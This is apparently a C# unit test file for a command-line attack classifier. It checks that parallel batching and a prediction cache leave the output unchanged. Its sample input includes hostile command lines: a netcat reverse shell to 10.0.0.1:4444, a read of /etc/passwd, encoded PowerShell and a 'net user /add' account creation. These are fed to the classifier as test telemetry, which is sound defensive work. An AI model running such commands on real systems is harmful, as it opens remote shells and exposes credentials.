using System.Text;
using AttackClassifier.Cli;
using AttackClassifier.Cli.Output;
using AttackClassifier.Serialization;
using AttackClassifier.Telemetry;

namespace AttackClassifier.Tests.Cli;

/// <summary>The batched, parallel loop of <see cref="PredictionStream"/> against its single-threaded loop.</summary>
public class PredictionStreamTests
{
    private static readonly LoadedModel Model = ModelFile.Open(Path.Combine(AppContext.BaseDirectory, "Fixtures", "Cli", "sample-lr.acm"));

    private static readonly string[] Commands =
        ["cat /etc/passwd", "whoami", "powershell -enc SQBFAFgA", "", "nc -e /bin/sh 10.0.0.1 4444", "ls -la /tmp", "   ", "net user /add x"];

    // Input lines: more than two batches, empty lines (error records) scattered through them.
    private static byte[] Input(int lines) =>
        Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, lines).Select(i => Commands[(i * 7 + i / 3) % Commands.Length] + (i % 11 == 0 ? $" {i}" : "") + "\n")));

    private static (string Output, PredictionSummary Summary, Exception? Error) Run(byte[] input, int workers, OutputFormat format = OutputFormat.Jsonl, bool strict = false, int cache = 16_384) =>
        RunWithCache(input, workers, format, strict, cache).Result;

    private static ((string Output, PredictionSummary Summary, Exception? Error) Result, PredictionCache? Cache) RunWithCache(
        byte[] input, int workers, OutputFormat format = OutputFormat.Jsonl, bool strict = false, int cache = 16_384)
    {
        using var sink = new MemoryStream();
        PredictionSummary summary = default;
        Exception? error = null;
        PredictionStream stream;
        using (OutputBuffer buffer = OutputBuffer.ForStream(sink, flushEveryRecord: false))
        {
            stream = new PredictionStream(Model, "sample", new PredictionStreamOptions { Format = format, Workers = workers, Strict = strict, CacheCapacity = cache }, buffer);
            using var source = new MemoryStream(input, writable: false);
            try { summary = stream.Run(TelemetryReader.Read(source, new TelemetryReaderOptions())); }
            catch (CliException e) { error = e; }
        }
        return ((Encoding.UTF8.GetString(sink.ToArray()), summary, error), stream.Cache);
    }

    [Theory]
    [InlineData(1, "jsonl")]
    [InlineData(2, "jsonl")]
    [InlineData(2, "text")]
    public void The_prediction_cache_changes_no_output_byte(int workers, string formatName)
    {
        // Input() repeats 8 commands (some with a suffix): most lines are cache hits.
        OutputFormat format = Enum.Parse<OutputFormat>(formatName, ignoreCase: true);
        byte[] input = Input(2 * PredictionStream.BatchSize + 123);
        var cached = RunWithCache(input, workers, format);
        var uncached = RunWithCache(input, workers, format, cache: 0);
        Assert.Null(uncached.Cache);
        int lines = 2 * PredictionStream.BatchSize + 123;
        Assert.InRange(cached.Cache!.Count, 6, lines / 11 + 1 + Commands.Length);   // the distinct lines: the commands and every 11th line's suffixed one
        Assert.Equal(uncached.Result.Summary, cached.Result.Summary);
        Assert.Equal(uncached.Result.Output, cached.Result.Output);
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    public void The_prediction_cache_stays_within_its_capacity_and_output_stays_the_same(int workers)
    {
        // 5,000 lines over 300 distinct commands, in an order that keeps coming back: a cache of 7 fills and starts over many times.
        byte[] input = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 5000).Select(i => $"cat /tmp/f{i * 37 % 300} | grep x{i % 5}\n")));
        var small = RunWithCache(input, workers, cache: 7);
        var none = RunWithCache(input, workers, cache: 0);
        Assert.InRange(small.Cache!.Count, 1, 7);
        Assert.Equal(none.Result.Output, small.Result.Output);
    }

    [Fact]
    public void Lines_longer_than_the_cached_length_are_classified_every_time_and_never_kept()
    {
        string longLine = "echo " + new string('a', PredictionCache.MaxCachedLength);
        byte[] input = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat(longLine + "\n", 40)) + "whoami\n");
        var run = RunWithCache(input, 1);
        Assert.Equal(1, run.Cache!.Count);   // whoami only
        Assert.Equal(RunWithCache(input, 1, cache: 0).Result.Output, run.Result.Output);
    }

    [Fact]
    public void A_negative_cache_capacity_is_refused_by_name()
    {
        using OutputBuffer buffer = OutputBuffer.ForStream(Stream.Null, flushEveryRecord: false);
        var e = Assert.Throws<CliException>(() => new PredictionStream(Model, "sample", new PredictionStreamOptions { CacheCapacity = -1 }, buffer));
        Assert.Contains("cache capacity", e.Message);
    }

    [Theory]
    [InlineData(2, "jsonl")]
    [InlineData(3, "jsonl")]
    [InlineData(2, "text")]
    public void Parallel_batches_write_the_bytes_of_the_single_threaded_loop(int workers, string formatName)
    {
        OutputFormat format = Enum.Parse<OutputFormat>(formatName, ignoreCase: true);
        byte[] input = Input(2 * PredictionStream.BatchSize + 123);
        var single = Run(input, 1, format);
        var parallel = Run(input, workers, format);
        Assert.Equal(single.Summary, parallel.Summary);
        Assert.Equal(2 * PredictionStream.BatchSize + 123, parallel.Summary.Records);
        Assert.True(parallel.Summary.Errors > 0);
        Assert.Equal(single.Output.Split('\n').Length, parallel.Output.Split('\n').Length);
        Assert.Equal(single.Output, parallel.Output);
    }

    [Fact]
    public void A_strict_run_stops_at_the_same_record_with_the_same_output()
    {
        byte[] input = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 3000).Select(i => i == 2500 ? "\n" : $"cat /tmp/f{i}\n")));
        var single = Run(input, 1, strict: true);
        var parallel = Run(input, 2, strict: true);
        Assert.Contains(":2501:", single.Error!.Message);
        Assert.Equal(single.Error.Message, parallel.Error!.Message);
        Assert.Equal(2500, parallel.Output.Count(c => c == '\n'));
        Assert.Equal(single.Output, parallel.Output);
    }

    [Fact]
    public void A_live_stream_writes_each_record_before_the_next_one_arrives()
    {
        // The producer hands over record 2 only once record 1's output has reached the sink: a loop that waited for a full
        // batch (or for the end of input) would time out here.
        var sink = new SignallingStream();
        using OutputBuffer buffer = OutputBuffer.ForStream(sink, flushEveryRecord: true);
        var stream = new PredictionStream(Model, "sample", new PredictionStreamOptions { Format = OutputFormat.Jsonl, Workers = 2 }, buffer);
        PredictionSummary summary = stream.Run(Live(sink));
        Assert.Equal(new PredictionSummary(3, 0), summary);
        Assert.Equal(3, Encoding.UTF8.GetString(sink.ToArray()).Count(c => c == '\n'));

        static IEnumerable<TelemetryRecord> Live(SignallingStream sink)
        {
            for (int line = 1; line <= 3; line++)
            {
                yield return new TelemetryRecord { LineNumber = line, CommandLine = "cat /etc/passwd" };
                Assert.True(sink.WaitForLines(line, TimeSpan.FromSeconds(30)), $"record {line} was not written before more input came");
            }
        }
    }

    [Fact]
    public void A_failing_reader_gets_the_records_before_it_written_then_its_exception()
    {
        using var sink = new MemoryStream();
        using OutputBuffer buffer = OutputBuffer.ForStream(sink, flushEveryRecord: false);
        var stream = new PredictionStream(Model, "sample", new PredictionStreamOptions { Format = OutputFormat.Jsonl, Workers = 2 }, buffer);
        var e = Assert.Throws<IOException>(() => stream.Run(Failing()));
        Assert.Equal("disk gone", e.Message);
        Assert.Equal(5, Encoding.UTF8.GetString(sink.ToArray()).Count(c => c == '\n'));

        static IEnumerable<TelemetryRecord> Failing()
        {
            for (int line = 1; line <= 5; line++) yield return new TelemetryRecord { LineNumber = line, CommandLine = "whoami" };
            throw new IOException("disk gone");
        }
    }

    [Fact]
    public void Zero_workers_is_an_error()
    {
        using OutputBuffer buffer = OutputBuffer.ForStream(Stream.Null, flushEveryRecord: false);
        Assert.Throws<CliException>(() => new PredictionStream(Model, "sample", new PredictionStreamOptions { Workers = 0 }, buffer));
    }

    private sealed class SignallingStream : MemoryStream
    {
        private readonly object _gate = new();

        public override void Write(ReadOnlySpan<byte> buffer) => Write(buffer.ToArray(), 0, buffer.Length);

        public override void Write(byte[] buffer, int offset, int count)
        {
            lock (_gate) { base.Write(buffer, offset, count); Monitor.PulseAll(_gate); }
        }

        public bool WaitForLines(int lines, TimeSpan timeout)
        {
            DateTime until = DateTime.UtcNow + timeout;
            lock (_gate)
            {
                while (GetBuffer().AsSpan(0, (int)Length).Count((byte)'\n') < lines)
                    if (!Monitor.Wait(_gate, until - DateTime.UtcNow > TimeSpan.Zero ? until - DateTime.UtcNow : TimeSpan.Zero)) return false;
                return true;
            }
        }
    }
}
